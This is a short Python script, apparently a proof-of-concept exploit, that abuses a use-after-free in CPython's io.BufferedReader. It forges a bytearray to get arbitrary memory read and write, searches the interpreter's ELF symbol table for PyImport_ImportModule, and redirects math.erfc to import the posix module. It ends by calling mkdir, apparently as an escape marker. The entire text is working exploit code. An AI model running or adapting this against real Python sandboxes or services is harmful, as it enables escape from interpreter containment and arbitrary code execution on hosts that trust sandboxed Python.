# Keeps a look at memory that BufferedReader has freed, lays a list there, and plants a made-up bytearray in it.
# Machine: x86-64
import io
import math
import struct


class File(io.RawIOBase):
    def readinto(self, place):
        self.kept = place

    def readable(self):
        return True


file = File()
io.BufferedReader(file).read(1)
look = file.kept.cast("P")
things = [None] * len(look)
image = struct.pack("QQQQQQQ", 9, id(bytearray), 2**63 - 1, 0, 0, 0, 0)
look[0] = id(image) + 32
memory = things[0]


def word(address):
    return int.from_bytes(memory[address : address + 8], "little")


base = word(word(id(len) + 16) + 8) & ~0xFFF
while memory[base : base + 4] != b"\x7fELF":
    base -= 4096
heads = [base + word(base + 32) + 56 * n for n in range(word(base + 56) & 0xFFFF)]
dynamic = base + next(word(head + 16) for head in heads if word(head) & 0xFFFFFFFF == 2)
table = {word(place): word(place + 8) for place in range(dynamic, dynamic + 480, 16)}
symbol, wanted, name = table[6], b"PyImport_ImportModule\0", base
while memory[name : name + len(wanted)] != wanted:
    symbol += 24
    name = table[5] + (word(symbol) & 0xFFFFFFFF)
module, method = b"posix", word(id(math.erfc) + 16) + 8
memory[id(math.erfc) + 24 : id(math.erfc) + 32] = struct.pack("Q", id(module) + 32)
memory[method : method + 8] = struct.pack("Q", base + word(symbol + 8))
math.erfc(0).mkdir(FOLDER + "/after_free")
